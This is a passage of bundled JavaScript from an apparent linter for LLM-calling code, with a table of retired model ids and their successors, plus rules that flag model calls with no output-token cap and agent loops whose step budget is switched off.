		pattern: /^(code-davinci-00\d|code-cushman-00\d)$/,
		provider: "openai",
		retired: "2023-03-23",
		successor: OPENAI_SOL
	},
	{
		pattern: /^gpt-3\.5-turbo(-0301|-0613|-16k|-16k-0613|-1106|-0125)?$/,
		provider: "openai",
		retired: "2026-10-23",
		successor: OPENAI_TERRA
	},
	{
		pattern: /^gpt-4-(0314|32k|32k-0314|32k-0613)$/,
		provider: "openai",
		retired: "2025-06-06",
		successor: OPENAI_SOL
	},
	{
		pattern: /^gpt-4-(vision-preview|1106-vision-preview)$/,
		provider: "openai",
		retired: "2024-12-06",
		successor: OPENAI_SOL
	},
	{
		pattern: /^gpt-4(-0613|-1106-preview|-0125-preview|-turbo|-turbo-preview|-turbo-2024-04-09)?$/,
		provider: "openai",
		retired: "2026-10-23",
		successor: OPENAI_SOL
	},
	{
		pattern: /^gpt-4\.5-preview(-2025-02-27)?$/,
		provider: "openai",
		retired: "2025-07-14",
		successor: OPENAI_SOL
	},
	{
		pattern: /^gpt-4o-2024-05-13$/,
		provider: "openai",
		retired: "2026-10-23",
		successor: OPENAI_SOL
	},
	{
		pattern: /^chatgpt-4o-latest$/,
		provider: "openai",
		retired: "2026-02-17",
		successor: "gpt-5.1-chat-latest"
	},
	{
		pattern: /^(o1-preview|o1-mini)(-2024-09-12)?$/,
		provider: "openai",
		retired: "2025-10-27",
		successor: OPENAI_SOL
	},
	{
		pattern: /^(o1|o1-2024-12-17|o1-pro|o1-pro-2025-03-19|o3-mini|o3-mini-2025-01-31)$/,
		provider: "openai",
		retired: "2026-10-23",
		successor: OPENAI_SOL
	},
	{
		pattern: /^o4-mini(-2025-04-16)?$/,
		provider: "openai",
		retired: "2026-10-23",
		successor: OPENAI_TERRA
	},
	{
		pattern: /^gpt-4\.1-nano(-2025-04-14)?$/,
		provider: "openai",
		retired: "2026-10-23",
		successor: "gpt-5.6-luna"
	},
	{
		pattern: /^codex-mini-latest$/,
		provider: "openai",
		retired: "2026-01-16",
		successor: "gpt-5-codex-mini"
	},
	{
		pattern: /^claude-(1|1\.\d|instant-1(\.\d)?|instant-v1)(-100k)?$/,
		provider: "anthropic",
		retired: "2024-11-06",
		successor: CLAUDE_HAIKU,
		replacement: CLAUDE_HAIKU
	},
	{
		pattern: /^claude-(2|2\.0|2\.1|v2)$/,
		provider: "anthropic",
		retired: "2025-07-21",
		successor: CLAUDE_SONNET,
		replacement: CLAUDE_SONNET
	},
	{
		pattern: /^claude-3-sonnet-20240229$/,
		provider: "anthropic",
		retired: "2025-07-21",
		successor: CLAUDE_SONNET,
		replacement: CLAUDE_SONNET
	},
	{
		pattern: /^claude-3-opus-(20240229|latest)$/,
		provider: "anthropic",
		retired: "2026-01-05",
		successor: CLAUDE_OPUS,
		replacement: CLAUDE_OPUS
	},
	{
		pattern: /^claude-3-5-sonnet-(20240620|20241022|latest)$/,
		provider: "anthropic",
		retired: "2025-10-28",
		successor: CLAUDE_SONNET,
		replacement: CLAUDE_SONNET
	},
	{
		pattern: /^claude-3-5-haiku-(20241022|latest)$/,
		provider: "anthropic",
		retired: "2026-02-19",
		successor: CLAUDE_HAIKU,
		replacement: CLAUDE_HAIKU
	},
	{
		pattern: /^claude-3-7-sonnet-(20250219|latest)$/,
		provider: "anthropic",
		retired: "2026-02-19",
		successor: CLAUDE_SONNET,
		replacement: CLAUDE_SONNET
	},
	{
		pattern: /^claude-(sonnet-4-20250514|sonnet-4-0|4-sonnet-20250514)$/,
		provider: "anthropic",
		retired: "2026-06-15",
		successor: CLAUDE_SONNET,
		replacement: CLAUDE_SONNET
	},
	{
		pattern: /^claude-(opus-4-20250514|opus-4-0|4-opus-20250514)$/,
		provider: "anthropic",
		retired: "2026-06-15",
		successor: CLAUDE_OPUS,
		replacement: CLAUDE_OPUS
	},
	{
		pattern: /^claude-(sonnet-4-5-20250929|sonnet-4-5|4-5-sonnet-20250929)$/,
		provider: "anthropic",
		retired: "2026-11-30",
		successor: CLAUDE_SONNET,
		replacement: CLAUDE_SONNET
	},
	{
		pattern: /^(gemini-pro|gemini-pro-vision|gemini-1\.0-pro(-\d{3}|-latest|-vision(-\d{3}|-latest)?)?)$/,
		provider: "google",
		retired: "2025-04-09",
		successor: GEMINI_FLASH,
		replacement: GEMINI_FLASH
	},
	{
		pattern: /^gemini-1\.5-(pro|flash|flash-8b)(-\d{3}|-latest|-exp-\d{4}|-preview-\d{4})?$/,
		provider: "google",
		retired: "2025-09-24",
		successor: GEMINI_FLASH,
		replacement: GEMINI_FLASH
	},
	{
		pattern: /^gemini-2\.0-(flash|flash-001|flash-exp|flash-thinking-exp(-\d{2}-\d{2}|-\d{4})?|pro-exp(-02-05)?)$/,
		provider: "google",
		retired: "2026-06-01",
		successor: GEMINI_FLASH,
		replacement: GEMINI_FLASH
	},
	{
		pattern: /^gemini-2\.0-flash-lite(-001)?$/,
		provider: "google",
		retired: "2026-06-01",
		successor: GEMINI_FLASH_LITE,
		replacement: GEMINI_FLASH_LITE
	},
	{
		pattern: /^gemini-exp-\d{4}$/,
		provider: "google",
		retired: "2025-02-05",
		successor: "gemini-2.5-pro"
	},
	{
		pattern: /^gemini-2\.5-pro-preview-(03-25|05-06|06-05)$/,
		provider: "google",
		retired: "2025-12-02",
		successor: "gemini-3.1-pro-preview"
	},
	{
		pattern: /^(gemini-2\.0-flash-live-001|gemini-live-2\.5-flash-preview)$/,
		provider: "google",
		retired: "2025-12-09",
		successor: "a current Gemini Live API model"
	},
	{
		pattern: /^gemini-3-pro-preview$/,
		provider: "google",
		retired: "2026-03-09",
		successor: "gemini-3.1-pro-preview"
	},
	{
		pattern: /^gemini-3\.1-flash-lite-preview$/,
		provider: "google",
		retired: "2026-05-25",
		successor: GEMINI_FLASH_LITE,
		replacement: GEMINI_FLASH_LITE
	},
	{
		pattern: /^gemini-3\.1-flash-image-preview$/,
		provider: "google",
		retired: "2026-06-25",
		successor: "gemini-3.1-flash-image",
		replacement: "gemini-3.1-flash-image"
	},
	{
		pattern: /^gemini-3-pro-image-preview$/,
		provider: "google",
		retired: "2026-06-25",
		successor: "gemini-3-pro-image",
		replacement: "gemini-3-pro-image"
	},
	{
		pattern: /^(text-bison|chat-bison|code-bison|codechat-bison|text-unicorn)(-32k)?(@\d{3}|-\d{3})?$/,
		provider: "google",
		retired: "2025-04-09",
		successor: GEMINI_FLASH
	}
];
/**
* `openai:gpt-4` (Pydantic AI, init_chat_model), `anthropic/claude-2` (LiteLLM, AI Gateway),
* `models/gemini-pro` (Gemini REST), `publishers/google/models/...` → the bare model id, lower case.
*/
function normaliseModelId(raw) {
	let id = raw.trim().toLowerCase();
	id = id.replace(/^.*\/models\//, "").replace(/^models\//, "");
	const colon = id.indexOf(":");
	if (colon !== -1 && /^[a-z][a-z0-9_-]*$/.test(id.slice(0, colon))) id = id.slice(colon + 1);
	const slash = id.lastIndexOf("/");
	if (slash !== -1) id = id.slice(slash + 1);
	return id;
}
/**
* The literal text with the retired id swapped for `replacement`, keeping everything around the
* bare id (quotes, `openai:` / `anthropic/` / `models/` prefixes). The bare id is the tail of the
* value, so it is found from the end; undefined when the literal is not a plain `prefix + id`.
*/
function replaceModelIdInLiteral(literal, id, replacement) {
	const at = literal.toLowerCase().lastIndexOf(id);
	if (at === -1 || !/^\s*["'`]*$/.test(literal.slice(at + id.length))) return void 0;
	return literal.slice(0, at) + replacement + literal.slice(at + id.length);
}
function retiredModel(raw) {
	const id = normaliseModelId(raw);
	return RETIRED_MODELS.find((entry) => entry.pattern.test(id));
}
// src/heal/python-edits.ts
/**
* Edits that add or change one keyword argument of a Python call, in the call's own style: on the
* same line after the last argument, or on a line of its own when the call lists one argument per
* line with a trailing comma.
*/
function addKeywordArgument(call, text, keyword, value) {
	const args = call.childForFieldName("arguments");
	if (!args || args.type !== "argument_list") return void 0;
	const last = args.namedChildren.filter((child) => child.type !== "comment").at(-1);
	if (!last) return {
		start: args.startIndex + 1,
		end: args.startIndex + 1,
		text: `${keyword}=${value}`
	};
	const closing = args.endIndex - 1;
	const between = text.slice(last.endIndex, closing);
	if (/^\s*,/.test(between) && between.includes("\n")) {
		const commaAt = last.endIndex + between.indexOf(",") + 1;
		const at = Math.min(lineEnd(text, commaAt), closing);
		return {
			start: at,
			end: at,
			text: `${newlineOf(text)}${lineIndent(text, last.startIndex)}${keyword}=${value},`
		};
	}
	return {
		start: last.endIndex,
		end: last.endIndex,
		text: `, ${keyword}=${value}`
	};
}
// src/rules/finops/no-output-token-cap.ts
var CHAT = {
	what: "chat.completions.create",
	keys: ["max_tokens", "max_completion_tokens"],
	api: "the Chat Completions API then allows up to the model's maximum output",
	write: "max_completion_tokens"
};
var RESPONSES = {
	what: "responses.create",
	keys: ["max_output_tokens"],
	api: "the Responses API then allows up to the model's maximum output",
	write: "max_output_tokens"
};
var GEMINI = {
	what: "GenerateContentConfig",
	keys: ["max_output_tokens"],
	api: "Gemini then allows up to the model's maximum output (8k tokens on 2.0 Flash, 65k on 2.5 and later)",
	write: "max_output_tokens"
};
var CHAT_OPENAI = {
	what: "ChatOpenAI",
	keys: ["max_tokens", "max_completion_tokens"],
	api: "LangChain leaves max_tokens unset, so the model's maximum output applies",
	write: "max_tokens"
};
var MODEL_SETTINGS = {
	what: "ModelSettings",
	keys: ["max_tokens"],
	api: "max_tokens defaults to None, so every turn may run to the model's maximum output",
	write: "max_tokens"
};
var AI_SDK = {
	what: "",
	keys: ["maxOutputTokens", "maxTokens"],
	api: "the AI SDK sends no limit by default, so the provider's maximum applies",
	write: "maxOutputTokens"
};
var TS_CHAT = {
	what: "chat.completions.create",
	keys: ["max_tokens", "max_completion_tokens"],
	api: "the Chat Completions API then allows up to the model's maximum output",
	write: "max_completion_tokens"
};
var TS_RESPONSES = {
	what: "responses.create",
	keys: ["max_output_tokens"],
	api: "the Responses API then allows up to the model's maximum output",
	write: "max_output_tokens"
};
var TS_CHAT_OPENAI = {
	what: "ChatOpenAI",
	keys: ["maxTokens", "maxCompletionTokens"],
	api: "LangChain leaves maxTokens unset, so the model's maximum output applies",
	write: "maxTokens"
};
function pythonSpec(call, qualified, importsOpenAi) {
	const written = calleeText(call);
	if (importsOpenAi && /(^|\.)chat\.completions\.create$/.test(written)) return CHAT;
	if (importsOpenAi && /(^|\.)responses\.create$/.test(written)) return RESPONSES;
	if (/^google\.genai\.types\.GenerateContentConfig$|^google\.genai\.GenerateContentConfig$/.test(qualified)) return GEMINI;
	if (/^langchain_openai(\.chat_models)?\.ChatOpenAI$|^langchain_openai\.AzureChatOpenAI$/.test(qualified)) return CHAT_OPENAI;
	if (/^agents(\.model_settings)?\.ModelSettings$/.test(qualified)) return MODEL_SETTINGS;
}
/** The call a config object is handed to: `f(config=X(...))` directly, or `cfg = X(...)` then `f(config=cfg)` in the module. */
function ownerCall(config, tree, keys) {
	const parent = config.parent;
	if (parent?.type === "keyword_argument" && keys.includes(parent.childForFieldName("name")?.text ?? "")) return parent.parent?.parent?.type === "call" ? parent.parent.parent : void 0;
	const left = parent?.type === "assignment" ? parent.childForFieldName("left") : void 0;
	if (left?.type !== "identifier") return void 0;
	return calls(tree).find((call) => keys.some((key) => keywordArgument(call, key)?.text === left.text));
}
/** Keywords that ask for a structured (schema-checked) answer, on the call or on the agent that owns its config. */
var STRUCTURED_KEYWORDS = [
	"response_format",
	"text_format",
	"response_schema",
	"response_json_schema",
	"output_schema",
	"output_type"
];
/**
* True when the capped call's answer is parsed against a schema: `client.chat.completions.parse(...)`,
* `response_format=`/`text_format=`, a GenerateContentConfig or ModelSettings whose agent has
* `output_schema=`/`output_type=`, or a LangChain chat model in a file that calls `with_structured_output`.
*/
function pyStructuredOutput(call, tree, text) {
	if (/\.parse$/.test(calleeText(call))) return true;
	if (STRUCTURED_KEYWORDS.some((key) => keywordArgument(call, key))) return true;
	if (/json/i.test(stringValue(keywordArgument(call, "response_mime_type")) ?? "")) return true;
	const owner = ownerCall(call, tree, [
		"config",
		"generate_content_config",
		"model_settings"
	]);
	if (owner && STRUCTURED_KEYWORDS.some((key) => keywordArgument(owner, key))) return true;
	return /Chat[A-Z]\w*$/.test(calleeText(call)) && text.includes("with_structured_output");
}
/** A model id written as a string, a module constant, or the `model=` of a model object (`LitellmModel(model="…")`). */
function pyModelName(node, tree) {
	const value = pyUnwrap(node);
	if (value?.type === "call") return pyModelName(keywordArgument(value, "model"), tree);
	return pyResolveString(value, tree);
}
/** `client` in `client.chat.completions.create(...)` → the `OpenAI(...)` it was built from, when the module shows it. */
function pyClientOf(call, tree) {
	let base = call.childForFieldName("function");
	while (base?.type === "attribute") base = base.childForFieldName("object");
	if (base?.type === "call") return base;
	if (base?.type !== "identifier") return void 0;
	const built = pyUnwrap(pyAssignedValues(tree.rootNode, base.text).at(-1));
	return built?.type === "call" ? built : void 0;
}
function servedLocally(client, tree) {
	const url = client && pyResolveString(keywordArgument(client, "base_url") ?? keywordArgument(client, "openai_api_base"), tree);
	return url !== void 0 && isLocalEndpoint(url);
}
/**
* True where no output cap is the right setting (see output-cap-exemptions.ts): reasoning and media
* models, models served on this machine, and Agents SDK settings whose agent runs the SDK's default
* model (a gpt-5 reasoning model) or one the module does not name.
*/
function pyNeedsNoCap(call, spec, tree) {
	let model;
	if (spec === MODEL_SETTINGS) {
		if (pyKeywordSet(call, "reasoning")) return true;
		const agent = ownerCall(call, tree, ["model_settings"]);
		model = agent ? pyModelName(keywordArgument(agent, "model"), tree) : void 0;
		if (model === void 0) return true;
	} else if (spec === GEMINI) {
		const thinking = pyUnwrap(keywordArgument(call, "thinking_config"));
		if (thinking && thinking.type !== "none" && !(thinking.type === "call" && numberValue(keywordArgument(thinking, "thinking_budget")) === 0)) return true;
		if (/IMAGE|AUDIO/.test(keywordArgument(call, "response_modalities")?.text ?? "")) return true;
		const owner = ownerCall(call, tree, ["config", "generate_content_config"]);
		model = owner ? pyModelName(keywordArgument(owner, "model"), tree) : void 0;
	} else {
		if (pyKeywordSet(call, "reasoning_effort") || pyKeywordSet(call, "reasoning")) return true;
		model = pyModelName(keywordArgument(call, "model") ?? keywordArgument(call, "model_name"), tree);
		if (servedLocally(spec === CHAT_OPENAI ? call : pyClientOf(call, tree), tree)) return true;
	}
	return model !== void 0 && needsNoTextCap(model);
}
/**
* Reasoning and media models need no text-sized cap (output-cap-exemptions.ts). A retired model counts
* as the successor reliability/retired-model heals it to: a 1024 cap written next to `gemini-2.0-flash`
* would starve the thinking model (`gemini-3.5-flash`) the same heal puts there, and answers come back empty.
*/
function needsNoTextCap(model) {
	const successor = retiredModel(model)?.replacement;
	return [model, ...successor ? [successor] : []].some((id) => isReasoningModel(id) || isMediaOutputModel(id));
}
/** TS: the model id inside `model: 'o3'` or `model: openai('o3')`, when written literally. */
function tsModelName(options) {
	const text = objectProperty(options, "model")?.text;
	return text ? /['"`]([^'"`]+)['"`]/.exec(text)?.[1] : void 0;
}
var noOutputTokenCapCheck = defineRule({
	id: "finops/no-output-token-cap",
	title: "Model call with no output token cap",
	description: "A model call or model config sets no maximum output length where the API has none by default: OpenAI chat.completions/responses, Gemini GenerateContentConfig (also ADK generate_content_config), LangChain ChatOpenAI, OpenAI Agents ModelSettings, Vercel AI SDK generateText/streamText. A looping or verbose generation then bills up to the model maximum on every call. Anthropic requires max_tokens and is never flagged. It is a note, not a warning: every one of these models has a fixed maximum output (4k to 64k tokens), so the default is bounded and a cap is cost hygiene sized to the task, not a defect; as a warning it fired on nearly every model call and config. It stays silent where a cap would do harm or bound nothing: reasoning and thinking models (o-series, gpt-5, gpt-oss, DeepSeek R1, Gemini 2.5 and later, or a reasoning=/reasoning_effort=/thinking_config= setting), whose reasoning tokens count against the cap so a small cap returns an empty, still billed answer; image and audio output; servers on localhost or the local network; and Agents SDK ModelSettings whose agent names no model (the SDK default is a gpt-5 reasoning model) or one the module does not spell out.",
	persona: "finops",
	category: "finops",
	severity: "note",
	fixability: "one-click",
	tags: ["LLM10:2025", "CWE-770"],
	remediation: "Set an output cap sized to the task: max_completion_tokens / max_output_tokens (OpenAI), max_output_tokens (Gemini), max_tokens (ChatOpenAI, ModelSettings), maxOutputTokens (AI SDK 5; maxTokens in v4).",
	docs: "https://platform.openai.com/docs/api-reference/chat/create#chat-create-max_completion_tokens",
	frameworks: [
		"openai-sdk",
		"google-genai",
		"google-adk",
		"langchain",
		"openai-agents",
		"vercel-ai-sdk"
	],
	precision: "high"
}, {
	textHas: [/completions|responses|GenerateContentConfig|ChatOpenAI|ModelSettings|generateText|streamText/],
	async runOnTree(context, tree) {
		const { file } = context;
		const report = (node, callee, spec, edits) => context.report({
			...spanOf(node),
			message: `${callee}(...) sets no ${spec.keys.join("/")}; ${spec.api}, so one runaway generation bills up to the model maximum.`,
			fingerprintContent: `${callee}|${spec.keys.join("/")}`,
			...edits.length > 0 ? { fix: {
				description: `${spec.write}${file.language === "python" ? "=" : ": "}${context.heal.maxOutputTokens} on ${callee}(...)`,
				edits
			} } : { fixability: "structural" }
		});
		if (file.language === "python") {
			const imports = pythonImportMap(tree);
			const importsOpenAi = pyImportsFrom(imports, ["openai"]);
			for (const call of calls(tree)) {
				const spec = pythonSpec(call, qualifiedCallee(call, imports), importsOpenAi);
				if (!spec || hasDictSplat(call)) continue;
				if (spec.keys.some((key) => keywordArgument(call, key))) continue;
				if (pyNeedsNoCap(call, spec, tree)) continue;
				if ([keywordArgument(call, "model_kwargs"), keywordArgument(call, "extra_body")].some((extra) => spec.keys.some((key) => dictValue(extra, key)))) continue;
				const edit = pyStructuredOutput(call, tree, file.text) ? void 0 : addKeywordArgument(call, file.text, spec.write, String(context.heal.maxOutputTokens));
				report(call, calleeText(call), spec, edit ? [edit] : []);
			}
			return;
		}
		const imports = tsImportMap(tree);
		const importsOpenAi = tsImportsFrom(imports, (module) => module === "openai");
		for (const call of callExpressions(tree)) {
			const qualified = tsQualifiedCallee(call, imports);
			const written = tsCalleeText(call);
			let spec;
			if (qualified === "ai#generateText" || qualified === "ai#streamText") spec = AI_SDK;
			else if (importsOpenAi && call.type === "call_expression" && /(^|\.)chat\.completions\.create$/.test(written)) spec = TS_CHAT;
			else if (importsOpenAi && call.type === "call_expression" && /(^|\.)responses\.create$/.test(written)) spec = TS_RESPONSES;
			else if (call.type === "new_expression" && /^@langchain\/openai#(Azure)?ChatOpenAI$/.test(qualified)) spec = TS_CHAT_OPENAI;
			if (!spec) continue;
			const options = tsOptions(call);
			if (!options || hasSpread(options)) continue;
			if (spec.keys.some((key) => objectProperty(options, key))) continue;
			const model = tsModelName(options);
			if (model !== void 0 && needsNoTextCap(model)) continue;
			const structured = [
				"experimental_output",
				"output",
				"response_format"
			].some((key) => objectProperty(options, key));
			report(call, written, spec, structured ? [] : addObjectProperty(options, file.text, spec.write, String(context.heal.maxOutputTokens)) ?? []);
		}
	}
});
// src/rules/reliability/ai-sdk-stop-conditions.ts
/**
* The AI SDK (`ai` package) tool loop and how each release names its stop conditions. Checked against
* the vercel/ai repository (release-v4.3, release-v5.0, release-v6.0 branches and main at 7.0.77) and
* the 6→7 migration guide (content/docs/08-migration-guides/23-migration-guide-7-0.mdx):
* - 4.x: `maxSteps` on generateText/streamText, default 1.
* - 5.x: `stopWhen` replaces maxSteps; helpers `stepCountIs(n)` and `hasToolCall(name)`; default
*   `stepCountIs(1)` (Experimental_Agent too).
* - 6.x: `ToolLoopAgent` defaults to `stepCountIs(20)`; 6.0.142 adds `isLoopFinished()`, a condition
*   that never fires ("unlimited steps").
* - 7.x (renamed in 7.0.0-beta.50): `isStepCount(n)`; `stepCountIs` stays as a deprecated alias;
*   `hasToolCall(...names)` takes several names; defaults `isStepCount(1)` / ToolLoopAgent `isStepCount(20)`.
* Rules resolve imports (named, aliased, `import * as ai`) rather than match one spelling.
*/
var AI_SDK_VERSIONS_KNOWN = [
	"ai 4.x: `maxSteps` on generateText/streamText (default 1)",
	"ai 5.x: `stopWhen` with `stepCountIs(n)` / `hasToolCall()` (default `stepCountIs(1)`)",
	"ai 6.x: `ToolLoopAgent` (default `stepCountIs(20)`), `isLoopFinished()` from 6.0.142",
	"ai 7.x: `isStepCount(n)` (renamed from `stepCountIs`, kept as a deprecated alias)"
];
/** Step-count helpers by `module#export`: the 5.x/6.x name and the 7.x name. */
var STEP_COUNT_HELPERS = /* @__PURE__ */ new Set(["ai#stepCountIs", "ai#isStepCount"]);
var LOOP_FINISHED = "ai#isLoopFinished";
/** Calls that run the tool loop and take `stopWhen` (or `maxSteps` before 5.0) in their options object. */
var AI_SDK_LOOP_CALLS = /^ai#(generateText|streamText|ToolLoopAgent|Experimental_Agent|Agent)$/;
/** The resolved `module#export` of a call's callee (`isStepCount`, `s(...)` for an alias, `ai.isStepCount`). */
function resolved(call, imports) {
	return tsQualifiedCallee(call, imports);
}
/** True when `call` is a step-count helper (`stepCountIs` or `isStepCount` from 'ai'). */
function isStepCountCall(call, imports) {
	return call.type === "call_expression" && STEP_COUNT_HELPERS.has(resolved(call, imports));
}
/** The conditions of a `stopWhen` value; an empty list for a spread or an empty array (nothing is known). */
function stopConditions(value, imports) {
	const elements = value.type === "array" ? value.namedChildren.filter((child) => child.type !== "comment") : [value];
	if (elements.some((element) => element.type === "spread_element")) return [];
	return elements.map((element) => {
		if (element.type === "call_expression") {
			const name = resolved(element, imports);
			if (STEP_COUNT_HELPERS.has(name)) return {
				kind: "step-count",
				call: element,
				helper: name.slice(name.indexOf("#") + 1),
				count: tsArguments(element)[0]
			};
			if (name === LOOP_FINISHED) return {
				kind: "loop-finished",
				call: element
			};
		}
		return {
			kind: "other",
			node: element
		};
	});
}
/** `stopWhen: isLoopFinished()` (alone or only such entries): the loop has no stop condition of its own. */
function neverStops(conditions) {
	return conditions.length > 0 && conditions.every((condition) => condition.kind === "loop-finished");
}
// src/rules/finops/no-usage-budget.ts
/**
* Every framework covered here ships a sane default step/turn bound, so the rule never fires on a
* missing setting: only where code switches the bound off or raises it past any plausible run.
*/
var UNBOUNDED_AT = 1e3;
/** `None` (where the framework reads it as "no limit"), infinities, sys.maxsize, or a number >= UNBOUNDED_AT. */
function pyUnbounded(node, noneMeansUnbounded) {
	if (!node) return void 0;
	if (node.type === "none") return noneMeansUnbounded ? "None" : void 0;
	const number = numberValue(node);
	if (number !== void 0) return number >= UNBOUNDED_AT ? node.text : void 0;
	const text = node.text.replace(/\s+/g, "");
	if (/^(sys\.maxsize|math\.inf|float\(["'](inf|infinity)["']\)|numpy\.inf|np\.inf)$/i.test(text)) return text;
}
function tsUnbounded(node) {
	if (!node) return void 0;
	const number = tsNumberValue(node);
	if (number !== void 0) return number >= UNBOUNDED_AT ? node.text : void 0;
	const text = node.text.replace(/\s+/g, "");
	return /^(Infinity|Number\.(MAX_SAFE_INTEGER|MAX_VALUE|POSITIVE_INFINITY))$/.test(text) ? text : void 0;
}
/**
* True when a `stopWhen` value sets no bound: only `isLoopFinished()` or step counts of UNBOUNDED_AT+.
* Any other condition the code sets (hasToolCall, a local predicate, an imported helper) is a choice
* of bound; helper names resolve through imports (`stepCountIs` in ai 5–6, `isStepCount` in ai 7).
*/
function tsStopWhenUnbounded(stopWhen, imports) {
	const conditions = stopConditions(stopWhen, imports);
	return conditions.length > 0 && conditions.every((condition) => condition.kind === "loop-finished" || condition.kind === "step-count" && tsUnbounded(condition.count) !== void 0);
}
var noUsageBudgetCheck = defineRule({
	id: "finops/no-usage-budget",
	title: "Agent run with its step or usage budget switched off",
	description: `A multi-step agent loop has its framework's default bound removed or raised past any plausible run, so one confused run can call the model (and bill) without end. Covers Pydantic AI UsageLimits(request_limit=None) (default 50), OpenAI Agents max_turns (default 10, Python and JS), LangGraph recursion_limit (langchain-core default 25), LangChain AgentExecutor max_iterations=None (default 15), CrewAI Agent max_iter (default 20), smolagents max_steps (default 20), and Vercel AI SDK maxSteps / stopWhen set to isLoopFinished() or an unbounded step count (default: one step, ToolLoopAgent 20). Values of ${UNBOUNDED_AT}+ or infinity count as unbounded. Missing settings are never flagged: every framework here has a default.`,
	persona: "finops",
	category: "finops",
	severity: "warning",
	fixability: "structural",
	tags: [
		"LLM10:2025",
		"CWE-770",
		"ASI08"
	],
	remediation: "Keep a finite bound sized to the task (tens of steps, not thousands) and add a token budget where the framework has one (Pydantic AI UsageLimits(total_tokens_limit=...)); combine AI SDK stop conditions with isStepCount(n) (stepCountIs before ai 7).",
	docs: "https://ai.pydantic.dev/agents/#usage-limits",
	frameworks: [
		"pydantic-ai",
		"openai-agents",
		"langgraph",
		"langchain",
		"crewai",
		"smolagents",
		"vercel-ai-sdk"
	],
	precision: "high"
}, {
	textHas: [/request_limit|max_turns|maxTurns|recursion_limit|max_iterations|max_iter|max_steps|maxSteps|stopWhen/],
	async runOnTree(context, tree) {
		const { file } = context;
		const report = (node, setting, value, framework, fallback) => context.report({
			...spanOf(node),
			message: `${framework} ${setting}=${value} removes the run's step budget (default ${fallback}), so a looping agent keeps calling the model and billing until something else stops it.`,
			fingerprintContent: `${framework}|${setting}|${value}`
		});
		if (file.language === "python") {
			const imports = pythonImportMap(tree);
			const langgraph = pyImportsFrom(imports, [
				"langgraph",
				"langchain",
				"langchain_core"
			]);
			for (const call of calls(tree)) {
				const qualified = qualifiedCallee(call, imports);
				const check = (key, framework, fallback, noneMeansUnbounded) => {
					const node = keywordArgument(call, key);
					const value = pyUnbounded(node, noneMeansUnbounded);
					if (node && value) report(node, key, value, framework, fallback);
				};
				if (/^pydantic_ai(\.usage)?\.UsageLimits$/.test(qualified)) check("request_limit", "Pydantic AI UsageLimits", "50 requests", true);
				else if (/^agents(\.run)?\.Runner\.run(_sync|_streamed)?$/.test(qualified)) check("max_turns", "OpenAI Agents Runner", "10 turns", false);
				else if (/^langchain(\.agents(\.agent)?)?\.AgentExecutor$/.test(qualified)) check("max_iterations", "LangChain AgentExecutor", "15 iterations", true);
				else if (/^crewai(\.agent)?\.Agent$/.test(qualified)) check("max_iter", "CrewAI Agent", "20 iterations", false);
				else if (/^smolagents(\.agents)?\.(CodeAgent|ToolCallingAgent|MultiStepAgent)$/.test(qualified)) check("max_steps", "smolagents", "20 steps", false);
				else if (langgraph && (/(^|\.)with_config$/.test(calleeText(call)) || /RunnableConfig$/.test(qualified))) check("recursion_limit", "LangGraph", "25 supersteps", false);
			}
			if (langgraph) for (const pair of tree.rootNode.descendantsOfType("pair")) {
				if (stringValue(pair.childForFieldName("key") ?? void 0) !== "recursion_limit") continue;
				const node = pair.childForFieldName("value") ?? void 0;
				const value = pyUnbounded(node, false);
				if (node && value) report(node, "recursion_limit", value, "LangGraph", "25 supersteps");
			}
			return;
		}
		const imports = tsImportMap(tree);
		for (const call of callExpressions(tree)) {
			const qualified = tsQualifiedCallee(call, imports);
			if (/^ai#(generateText|streamText|Experimental_Agent|Agent|ToolLoopAgent)$/.test(qualified)) {
				const options = tsOptions(call);
				const maxSteps = objectProperty(options, "maxSteps");
				const stepsValue = tsUnbounded(maxSteps);
				if (maxSteps && stepsValue) report(maxSteps, "maxSteps", stepsValue, "AI SDK", "one step");
				const stopWhen = objectProperty(options, "stopWhen");
				if (stopWhen && tsStopWhenUnbounded(stopWhen, imports)) {
					const shown = stopWhen.text.length > 40 ? `${stopWhen.text.slice(0, 37)}...` : stopWhen.text;
					context.report({
						...spanOf(stopWhen),
						message: `AI SDK stopWhen: ${shown.replace(/\s+/g, " ")} sets no step bound, so the tool loop only ends when the model decides to stop (default isStepCount(1), ToolLoopAgent 20); a model that keeps calling tools bills without end.`,
						fingerprintContent: `AI SDK|stopWhen|${stopWhen.text.replace(/\s+/g, "")}`
					});
				}
			} else if (/^@openai\/agents(-core)?#run$/.test(qualified) || /(^|\.)run$/.test(tsCalleeText(call)) && /@openai\/agents/.test(file.text) && /Runner/.test(file.text)) {
				const maxTurns = objectProperty(tsOptions(call, 2), "maxTurns");
				const value = tsUnbounded(maxTurns);
				if (maxTurns && value) report(maxTurns, "maxTurns", value, "OpenAI Agents", "10 turns");
			}
		}
	}
});
// src/rules/finops/model-tiers.ts
var PREMIUM_MODELS = [
	{
		pattern: /^gpt-4o(-\d{4}-\d{2}-\d{2})?$/,
		family: "gpt-4o",
		cheaper: () => "gpt-4o-mini"
	},
	{
		pattern: /^chatgpt-4o-latest$/,
		family: "gpt-4o",
		cheaper: () => "gpt-4o-mini"
	},
	{
		pattern: /^gpt-4\.1(-\d{4}-\d{2}-\d{2})?$/,
		family: "gpt-4.1",
		cheaper: () => "gpt-4.1-mini"
	},
	{
		pattern: /^gpt-5(\.\d+)?(-\d{4}-\d{2}-\d{2}|-pro|-chat-latest)?$/,
		family: "gpt-5",
		cheaper: () => "gpt-5-mini"
	},
	{
		pattern: /^o1(-preview|-pro)?(-\d{4}-\d{2}-\d{2})?$/,
		family: "o1",
		cheaper: () => "gpt-4.1-mini"
	},
	{
		pattern: /^o3(-pro)?(-\d{4}-\d{2}-\d{2})?$/,
		family: "o3",
		cheaper: () => "gpt-4.1-mini"
	},
	{
		pattern: /^claude-opus-[\d.-]+(-\d{8})?(-latest)?$/,
		family: "claude-opus",
		cheaper: () => "claude-haiku-4-5"
	},
	{
		pattern: /^claude-[\d.-]+-opus(-\d{8}|-latest)?$/,
		family: "claude-opus",
		cheaper: () => "claude-haiku-4-5"
	},
	{
		pattern: /^gemini-[\d.]+-pro(-[a-z0-9-]+)?$/,
		family: "gemini-pro",
		cheaper: (model) => model.replace(/-pro(-[a-z0-9-]+)?$/, (_match, suffix) => `-flash${suffix === "-preview" || suffix?.startsWith("-preview") ? "-preview" : ""}`)
	}
];
/** `openai:gpt-4o`, `openai/gpt-4o`, `models/gemini-2.5-pro`, `vertex_ai/gemini-2.5-pro` → the bare model id. */
function bareModelId(model) {
	const afterSlash = model.slice(model.lastIndexOf("/") + 1);
